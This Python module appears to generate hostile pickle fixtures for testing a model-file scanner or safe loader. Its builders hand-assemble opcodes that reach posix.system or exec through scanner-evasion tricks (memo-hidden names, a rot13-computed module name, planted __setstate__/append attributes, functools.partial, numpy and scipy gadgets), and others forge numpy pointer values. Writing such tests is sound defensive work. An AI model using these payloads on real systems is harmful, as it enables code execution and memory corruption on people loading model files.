"""Hostile files, the cunning kind: hidden names, states where none belong, numbers that are pointers."""

from __future__ import annotations

import pickle
from collections.abc import Callable
from pathlib import Path

from pickle_assembler import Builder, call, code, command, named, stacked, system, text, whole


def body(make: Callable[[Path], bytes], protocol: int = 4) -> Builder:
    return lambda path: path.write_bytes(whole(make(path), protocol))


# Whoever loads the extension opcodes must have registered this, or there is nothing behind the code.
EXTENSION = ("posix", "system", 0xF5)


def extension(opcode: bytes) -> Builder:
    return lambda path: path.write_bytes(whole(call(opcode, text(command(path))), 2))


def _memo(path: Path) -> bytes:
    """The name lies in the memo long before it is used, and other strings come between."""
    parts = text("posix") + b"q\x00" + text("system") + b"q\x01" + text("sklearn.svm") + text("SVC")
    return parts + b"0000" + call(b"h\x00h\x01\x93", text(command(path)))


def _overwritten_memo(path: Path) -> bytes:
    return (
        text("sklearn")
        + b"q\x000"
        + text("posix")
        + b"q\x000"
        + call(b"h\x00" + text("system") + b"\x93", text(command(path)))
    )


def _computed(path: Path) -> bytes:
    """The module's name is made by a call, so that no string of the file reads posix."""
    made = call(named("_codecs", "encode"), text("cbfvk"), text("rot13"))
    return call(made + text("system") + b"\x93", text(command(path)))


def _state_on_class(path: Path) -> bytes:
    kind = stacked("sklearn.linear_model._base", "LinearRegression")
    return kind + b"N}" + text("predict") + named("posix", "system") + b"s\x86b" + system(path)


def _state_on_allowed_class(path: Path) -> bytes:
    kind = stacked("sklearn.linear_model._base", "LinearRegression")
    return kind + b"N}" + text("predict") + named("numpy", "log1p") + b"s\x86b"


def _state_on_function(path: Path) -> bytes:
    """Gives numpy.mean a name of the builtins, as one known attack on scanners does."""
    return named("numpy", "mean") + b"N}" + text("__wrapped__") + named("numpy", "log1p") + b"s\x86b"


def _setstate_attribute(path: Path) -> bytes:
    """First a state that plants __setstate__ in the instance, then a state that would be its argument."""
    new = stacked("sklearn.cluster._birch", "_CFNode") + b")\x81"
    return new + b"}" + text("__setstate__") + named("posix", "system") + b"sb" + text(command(path)) + b"b"


def _setstate_allowed(path: Path) -> bytes:
    new = stacked("sklearn.linear_model._base", "LinearRegression") + b")\x81"
    return new + b"}" + text("__setstate__") + named("numpy", "log1p") + b"sb"


def _append_attribute(path: Path) -> bytes:
    """APPEND calls whatever `append` is: here an attribute that the file has set."""
    new = stacked("sklearn.linear_model._base", "LinearRegression") + b")\x81"
    return new + b"}" + text("append") + named("posix", "system") + b"sb" + text(command(path)) + b"a"


def _append_allowed(path: Path) -> bytes:
    new = stacked("sklearn.cluster._birch", "_CFNode") + b")\x81"
    return new + b"}" + text("append") + named("numpy", "log1p") + b"sbK\x01a"


def _class_attribute(path: Path) -> bytes:
    new = stacked("sklearn.linear_model._base", "LinearRegression") + b")\x81"
    return new + b"N}" + text("__class__") + named("posix", "DirEntry") + b"s\x86b"


def _slot_class_attribute(path: Path) -> bytes:
    new = stacked("sklearn.tree._tree", "TreeNode") + b")\x81"
    return new + b"N}" + text("__class__") + named("numpy", "float64") + b"s\x86b"


def _partial_of_system(path: Path) -> bytes:
    return call(call(named("functools", "partial"), named("posix", "system"), text(command(path))))


def _partial_state(path: Path) -> bytes:
    """The partial is made of the one function that may stand in it; its state then names another."""
    made = call(named("functools", "partial"), named("sklearn.utils.validation", "check_array"))
    return made + b"(" + named("posix", "system") + b"(" + text(command(path)) + b"t}Ntb"


def _partial_of_allowed(path: Path) -> bytes:
    return call(named("functools", "partial"), named("numpy", "log1p"))


def _called_instance(path: Path) -> bytes:
    return call(stacked("sklearn.gaussian_process.kernels", "RBF") + b")\x81", text(command(path)))


def _generator_maker(path: Path) -> bytes:
    """numpy's maker of generators calls its second argument with its first."""
    return call(named("numpy.random._pickle", "__generator_ctor"), text(command(path)), named("posix", "system"))


def _stats(path: Path) -> None:
    """A scipy.stats distribution runs a string of its state through exec when it is unpickled."""
    from scipy import stats

    state = {**stats.norm.__getstate__(), "_parse_arg_template": code(path)}
    body = stacked("scipy.stats._continuous_distns", "norm_gen") + b")\x81" + pickle.dumps(state, 2)[2:-1] + b"b"
    path.write_bytes(whole(body))


def _reconstructor(path: Path) -> bytes:
    kinds = named("subprocess", "Popen") + named("builtins", "object") + b"N"
    return call(named("copyreg", "_reconstructor"), kinds)


def _default_factory(path: Path) -> bytes:
    return call(named("collections", "defaultdict"), named("posix", "getpid"))


# Numbers that are pointers: numpy believes these, and a crash or worse follows


def _dtype_without_object_flag(path: Path) -> bytes:
    dtype = call(named("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    dtype += b"(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    array = call(named("numpy._core.multiarray", "_reconstruct"), named("numpy", "ndarray"), b"K\x00\x85", b"C\x01b")
    return array + b"(K\x01K\x01\x85" + dtype + b"\x89C\x08AAAAAAAAtb"


def _short_object_list(path: Path) -> bytes:
    dtype = call(named("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    array = call(named("numpy._core.multiarray", "_reconstruct"), named("numpy", "ndarray"), b"K\x00\x85", b"C\x01b")
    return array + b"(K\x01M\xe8\x03\x85" + dtype + b"\x89](K\x01etb"


def _overlapping_fields(path: Path) -> bytes:
    part = (
        call(named("numpy", "dtype"), text("O8"), b"\x89", b"\x88"),
        call(named("numpy", "dtype"), text("i8"), b"\x89", b"\x88"),
    )
    dtype = call(named("numpy", "dtype"), text("V8"), b"\x89", b"\x88")
    fields = b"}(" + text("a") + b"(" + part[0] + b"K\x00t" + text("b") + b"(" + part[1] + b"K\x00tu"
    return dtype + b"(K\x03" + text("|") + b"N(" + text("a") + text("b") + b"t" + fields + b"K\x08K\x01K\x10tb"


def _array_state_twice(path: Path) -> bytes:
    dtype = call(named("numpy", "dtype"), text("u1"), b"\x89", b"\x88")
    array = call(named("numpy._core.multiarray", "_reconstruct"), named("numpy", "ndarray"), b"K\x00\x85", b"C\x01b")
    state = b"(K\x01K\x02\x85" + dtype + b"\x89C\x02AAtb"
    return array + state + state


def _buffer_of_pointers(path: Path) -> bytes:
    dtype = call(named("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    return call(named("numpy._core.numeric", "_frombuffer"), b"C\x08AAAAAAAA", dtype, b"K\x01\x85", text("C"))


STATES: dict[str, Builder] = {
    "memo": body(_memo),
    "memo-overwritten": body(_overwritten_memo),
    "computed-name": body(_computed),
    "state-on-class": body(_state_on_class),
    "state-on-allowed-class": body(_state_on_allowed_class),
    "state-on-function": body(_state_on_function),
    "setstate-attribute": body(_setstate_attribute),
    "setstate-allowed": body(_setstate_allowed),
    "append-attribute": body(_append_attribute),
    "append-allowed": body(_append_allowed),
    "class-attribute": body(_class_attribute),
    "partial-of-system": body(_partial_of_system),
    "partial-state": body(_partial_state),
    "partial-of-allowed": body(_partial_of_allowed),
    "called-instance": body(_called_instance),
    "generator-maker": body(_generator_maker),
    "stats-exec": _stats,
    "reconstructor": body(_reconstructor),
    "default-factory": body(_default_factory),
    "dtype-without-object-flag": body(_dtype_without_object_flag),
    "short-object-list": body(_short_object_list),
    "overlapping-fields": body(_overlapping_fields),
    "array-state-twice": body(_array_state_twice),
    "buffer-of-pointers": body(_buffer_of_pointers),
}
